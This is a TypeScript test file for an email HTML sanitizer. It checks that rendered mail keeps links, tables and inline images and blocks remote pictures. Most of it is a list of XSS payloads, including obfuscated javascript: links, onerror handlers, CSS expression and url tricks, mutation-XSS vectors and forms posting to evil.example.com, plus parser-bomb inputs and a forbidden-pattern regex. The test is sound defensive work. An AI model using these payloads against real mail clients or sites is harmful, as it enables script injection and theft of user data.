import sanitize from 'sanitize-html';
import { describe, expect, it } from 'vitest';
import { documentLimits, messageDocument, safeLink } from './message-document.ts';
import { safeStyle } from './safe-style.ts';

const show = (html: string, images: 'blocked' | 'shown' = 'blocked'): string => {
  const whole = messageDocument(html, {
    images,
    theme: 'dark',
    pictureUrl: (id) => (id === 'logo@x' ? '/api/v1/attachments/1/logo.png' : null),
    text: 'the plain text',
  });
  return whole.slice(whole.indexOf('<body>') + 6, whole.indexOf('</body>'));
};

/** What no document may contain, whatever came in. */
const forbidden =
  /<(?!\/?(?:[abipqsu]|abbr|address|article|bd[io]|big|blockquote|br|caption|center|cite|code|col|colgroup|dd|del|details|dfn|div|dl|dt|em|figcaption|figure|font|footer|h[1-6]|header|hr|img|ins|kbd|li|main|mark|nav|ol|pre|samp|section|small|span|strike|strong|sub|summary|sup|table|tbody|td|tfoot|th|thead|time|tr|tt|ul|var|wbr)[\s/>])|<[^>]*\son\w+\s*=|<[^>]*(?:javascript|vbscript|data):|<[^>]*url\s*\(|<[^>]*expression\s*\(|<[^>]*srcset|<[^>]*\s(?:id|name|formaction|background|ping)=/i;

describe('attacks come to nothing', () => {
  it.each([
    ['script', '<script>alert(1)</script>'],
    ['script in capitals with a slash', '<ScRiPt/x>alert(1)</sCrIpT>'],
    ['nested script', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
    ['unclosed script', 'hello <script>alert(1)'],
    ['unclosed tag', '<img src=x onerror=alert(1) //'],
    ['onerror', '<img src=x onerror=alert(1)>'],
    ['onerror after a slash', '<img/src="x"/onerror=alert(1)>'],
    ['quotes that do not pair', '<img src="x` `<script>alert(1)</script>"` `>'],
    ['javascript link', '<a href="javascript:alert(1)">x</a>'],
    ['javascript with entities', '<a href="&#106;avascript&colon;alert(1)">x</a>'],
    ['javascript with a tab', '<a href="java\tscript:alert(1)">x</a>'],
    ['javascript with a line end', '<a href="java&#10;script:alert(1)">x</a>'],
    ['javascript behind a control character', '<a href="\u0001javascript:alert(1)">x</a>'],
    ['javascript that looks like http at the end', '<a href="javascript:alert(1)//http://example.com">x</a>'],
    ['vbscript', '<a href="vbscript:msgbox(1)">x</a>'],
    ['data link', '<a href="data:text/html,<script>alert(1)</script>">x</a>'],
    ['data picture of SVG', '<img src="data:image/svg+xml;base64,PHN2Zz4=">'],
    ['style element', '<style>@import url(https://evil.example.com/x.css);</style>'],
    ['style element never closed', '<style>body{background:url(x)} <p>text'],
    ['style with url', '<p style="background:url(https://evil.example.com/x.png)">x</p>'],
    ['style with an escaped url', '<p style="background:\\75rl(https://evil.example.com)">x</p>'],
    ['style with expression', '<p style="width:expression(alert(1))">x</p>'],
    ['style with a comment', '<p style="width:exp/**/ression(alert(1))">x</p>'],
    ['style with import', '<p style="@import \'x\'">x</p>'],
    ['style that covers the page', '<div style="position:fixed;top:0;left:0;z-index:9">x</div>'],
    ['svg', '<svg onload=alert(1)><script>alert(1)</script></svg>'],
    ['svg use', '<svg><use href="data:image/svg+xml,x#x"/></svg>'],
    ['svg foreignObject', '<svg><foreignObject><body onload=alert(1)></foreignObject></svg>'],
    ['math', '<math><mi//xlink:href="data:x,<script>alert(1)</script>">'],
    ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example.com">'],
    ['base', '<base href="https://evil.example.com/"><a href="x">x</a>'],
    ['link', '<link rel=stylesheet href=https://evil.example.com/x.css>'],
    ['iframe', '<iframe src="https://evil.example.com"></iframe>'],
    ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
    ['object and embed', '<object data=x></object><embed src=x>'],
    [
      'form',
      '<form action="https://evil.example.com"><input name=password><button formaction=x>Go</button></form>',
    ],
    ['video poster', '<video poster="https://evil.example.com/x" src=x onerror=alert(1)></video>'],
    [
      'background attribute',
      '<table background="https://evil.example.com/x.png"><tr><td>x</td></tr></table>',
    ],
    ['srcset', '<img srcset="https://evil.example.com/x 2x" src="https://evil.example.com/x">'],
    ['link ping', '<a href="https://example.com" ping="https://evil.example.com">x</a>'],
    ['id and name (DOM clobbering)', '<a id=location name=cookie>x</a><img name=body src=x>'],
    ['comment trick', '<!--><script>alert(1)</script>-->'],
    ['conditional comment', '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->'],
    ['CDATA', '<![CDATA[<script>alert(1)</script>]]>'],
    ['processing instruction', '<?xml-stylesheet href="javascript:alert(1)"?>'],
    ['template', '<template><script>alert(1)</script></template>'],
    ['mutation: noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
    [
      'mutation: math style',
      '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    ],
    ['mutation: svg style', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'],
    [
      'mutation: form nesting',
      '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    ],
    ['mutation: textarea', '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>'],
    ['mutation: title', '<title><img title="</title><img src=x onerror=alert(1)>"></title>'],
    ['mutation: xmp', '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>'],
    [
      'mutation: select',
      '<select><template><style><!--</style><img src=x onerror=alert(1)>--></template></select>',
    ],
    ['mutation: plaintext', '<plaintext><img src=x onerror=alert(1)>'],
    ['entity in an attribute', '<p title="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">x</p>'],
    ['NUL in a tag', '<scr\0ipt>alert(1)</scr\0ipt><img src=x one\0rror=alert(1)>'],
    ['custom element', '<x-y onclick=alert(1)>x</x-y>'],
    ['class of ours', '<span class="no-picture x">Remote picture blocked</span>'],
  ])('%s', (_name, html) => {
    for (const images of ['blocked', 'shown'] as const) {
      const body = show(`<p>before</p>${html}`, images);
      expect(body).not.toMatch(forbidden);
      expect(body).toContain('before');
      // Reading the result again changes nothing: there is nothing left that another parser would see otherwise.
      const again = sanitize(body, {
        allowedTags: false,
        allowedAttributes: false,
        allowVulnerableTags: true,
      });
      expect(again).not.toMatch(forbidden);
    }
  });
});

describe('what a person needs stays', () => {
  it.each([
    [
      'links',
      '<a href="https://example.com/a?b=1">x</a>',
      '<a href="https://example.com/a?b=1" target="_blank" rel="noopener noreferrer">x</a>',
    ],
    [
      'mail links',
      '<a href="mailto:a@example.com">x</a>',
      '<a href="mailto:a@example.com" target="_blank" rel="noopener noreferrer">x</a>',
    ],
    ['text of relative links', '<a href="/account">x</a>', '<a>x</a>'],
    ['text of nameless links', '<a href="//example.com">x</a>', '<a>x</a>'],
    [
      'tables',
      '<table width="600" bgcolor="#ffffff"><tr><td align="center">x</td></tr></table>',
      '<table width="600" bgcolor="#ffffff"><tr><td align="center">x</td></tr></table>',
    ],
    [
      'colours and sizes',
      '<p style="color: #333; font-size:14px; MARGIN:0 auto !important">x</p>',
      '<p style="color:#333;font-size:14px;margin:0 auto !important">x</p>',
    ],
    ['hidden text, shown', '<p style="display:none">x</p>', '<p>x</p>'],
    [
      'pictures of the mail',
      '<img src="cid:logo@x" alt="Logo">',
      '<img alt="Logo" src="/api/v1/attachments/1/logo.png" />',
    ],
    [
      'pictures of the mail, encoded and in capitals',
      '<img src="CID:LOGO%40x">',
      '<img src="/api/v1/attachments/1/logo.png" />',
    ],
    [
      'a word for a picture that did not come',
      '<img src="cid:none@x">',
      '<span class="no-picture">Picture not included</span>',
    ],
    [
      'a word for a picture elsewhere',
      '<img src="https://example.com/x.png" alt="Ring <b>">',
      '<span class="no-picture">Remote picture blocked: Ring &lt;b&gt;</span>',
    ],
    ['nothing for a counting dot', '<img src="https://example.com/x" width="1" height="1">', '<span></span>'],
  ])('%s', (_name, html, expected) => {
    expect(show(html)).toBe(expected);
  });

  it('shows pictures from elsewhere when asked', () => {
    expect(show('<img src="https://example.com/x.png">', 'shown')).toBe(
      '<img src="https://example.com/x.png" />',
    );
  });

  it('follows the theme only when the mail sets no colours', () => {
    const document = (html: string) =>
      messageDocument(html, { images: 'blocked', theme: 'dark', pictureUrl: () => null, text: '' });
    expect(document('<p>plain</p>')).toContain('color-scheme:dark');
    expect(document('<p style="color:#000000">x</p>')).toContain('color-scheme:light');
  });
});

it.each([
  ['deep nesting', '<div>'.repeat(90_000)],
  ['many tags', '<b>x</b>'.repeat(200_000)],
  ['unclosed tags', '<a href="'.repeat(90_000)],
  ['endless attribute', `<p style="${'color:red;'.repeat(150_000)}">x`],
  ['entities', '&amp;'.repeat(390_000)],
  ['a huge mail', 'x'.repeat(documentLimits.characters + 1)],
  ['open comments', '<!--'.repeat(90_000)],
  ['nested tables', '<table><tr><td>'.repeat(30_000)],
])('a bomb of %s is shown in bounded time', (_name, html) => {
  const began = performance.now();
  expect(show(html).length).toBeLessThan(documentLimits.characters * 4);
  // Far above what it takes (under 1 s), far below what quadratic work would take.
  expect(performance.now() - began).toBeLessThan(15_000);
});

it.each([
  ['color:red', 'color:red'],
  ['color:rgb(1, 2, 3)', 'color:rgb(1, 2, 3)'],
  ['font-family:"Segoe UI", sans-serif', 'font-family:"Segoe UI", sans-serif'],
  ['color:var(--x)', ''],
  ['color:red;behavior:url(x)', 'color:red'],
  ['width:calc(1px + 2px)', ''],
  ['color:"a', ''],
  ['content:"x"', ''],
  ['-moz-binding:url(x)', ''],
  ['color:re\\64', ''],
  ['background-color:image-set("x" 1x)', ''],
])('style %s -> %j', (style, kept) => {
  expect(safeStyle(style)).toBe(kept);
});

it.each([
  ['https://example.com', 'https://example.com/'],
  [' HTTPS://EXAMPLE.com/a b', 'https://example.com/a%20b'],
  ['tel:+358401234', 'tel:+358401234'],
  ['ftp://example.com', null],
  ['file:///etc/passwd', null],
  ['about:blank', null],
  ['x', null],
  ['', null],
])('link %j -> %j', (href, expected) => {
  expect(safeLink(href)).toBe(expected);
});
